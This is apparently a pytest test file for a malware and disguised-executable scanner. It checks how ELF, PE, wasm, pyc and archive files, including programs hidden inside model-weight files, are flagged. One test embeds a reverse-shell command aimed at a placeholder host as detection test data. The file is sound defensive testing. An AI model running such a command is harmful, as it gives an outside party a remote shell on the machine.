"""Programs, bytecode, shortcuts, installers and false names: what is reported, and what is not."""

from __future__ import annotations

import struct

import pytest
from samples.recipes import executables
from samples.recipes.executables import MARKER, ar, elf, pe

from tests.analyzers.executable_events import findings, rows, rules

SAMPLES = dict(executables.samples())


def test_a_library_is_told_with_what_it_needs() -> None:
    (finding,) = findings("kernel.so", elf(("memcpy",), needed=("libm.so.6",)))
    assert finding.rule == "EXE001"
    assert "needs 'libm.so.6'" in finding.evidence


def test_starting_programs_and_talking_to_hosts_are_told_together_only() -> None:
    assert rules("a.so", elf(("execve",))) == {"EXE001"}
    assert rules("a.so", elf(("connect", "execve"))) == {"EXE001", "EXE002"}


def test_a_library_under_a_name_of_data_is_high() -> None:
    assert "EXE020" in rules("pytorch_model.bin", elf())
    assert "EXE020" not in rules("libmodel.so", elf())
    assert "EXE020" not in rules("tool", elf())


def test_a_program_in_a_hole_between_tensors_is_told_as_disguised() -> None:
    program = elf()
    header = b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'
    data = struct.pack("<Q", len(header)) + header + bytes(4) + program
    assert "EXE020" in rules("model.safetensors", data)


def test_bytes_behind_an_image_are_inspected_and_padding_is_not() -> None:
    shown = rows("tool.exe", pe({"KERNEL32.dll": ("Sleep",)}, tail=MARKER * 4))
    assert ("tool.exe!/appended", "text", "opaque") in shown
    assert len(rows("tool.exe", pe({"KERNEL32.dll": ("Sleep",)}, tail=bytes(64)))) == 1


def test_an_image_that_cannot_be_read_is_told_and_failed() -> None:
    assert rules("a.so", elf()[:90]) == {"EXE001"}
    assert [outcome for _, _, outcome in rows("a.so", elf()[:90])] == ["failed"]


def test_command_lines_in_an_image_that_cannot_be_read_are_told() -> None:
    broken = b"\x7fELF" + bytes(60) + b"bash -i >& /dev/tcp/host.example.invalid/4444 0>&1\0"
    assert "EXE008" in rules("a.so", broken)


def test_members_of_an_ar_archive_are_inspected() -> None:
    assert ("lib.a!/kernel.o", "elf", "analyzed") in rows("lib.a", ar({"kernel.o": elf()}))


def test_a_custom_section_of_wasm_is_inspected_unless_a_compiler_wrote_it() -> None:
    inside = executables._wasm([], custom=("extra", elf()))
    named = executables._wasm([], custom=("name", elf()))
    assert "EXE001" in rules("a.wasm", inside)
    assert "EXE001" not in rules("a.wasm", named)


def test_a_cache_of_python_is_info_and_a_module_alone_is_medium() -> None:
    data = SAMPLES["executables/__pycache__/scale.cpython-311.pyc"]
    assert rules("__pycache__/scale.cpython-311.pyc", data) == {"EXE024"}
    assert rules("scale.pyc", data) == {"EXE023"}


@pytest.mark.parametrize("name", ["photo.png", "notes.txt"])
def test_an_archive_under_a_false_name_is_told(name: str) -> None:
    assert "EXE022" in rules(name, SAMPLES["executables/notes.txt"])


def test_a_zip_behind_a_program_is_an_honest_pair() -> None:
    assert "EXE021" not in rules("setup.exe", SAMPLES["executables/installer.twin.exe"])
    assert "EXE021" in rules("pixel.gif", SAMPLES["executables/pixel.gif"])


def test_a_packed_member_of_a_rar_is_unsupported_and_a_stored_one_is_read() -> None:
    packed = rows("a.rar", SAMPLES["executables/packed.rar"])
    stored = rows("a.rar", SAMPLES["executables/stored.twin.rar"])
    assert ("a.rar", "rar", "unsupported") in packed
    assert stored == [("a.rar!/notes.txt", "text", "opaque"), ("a.rar", "rar", "analyzed")]
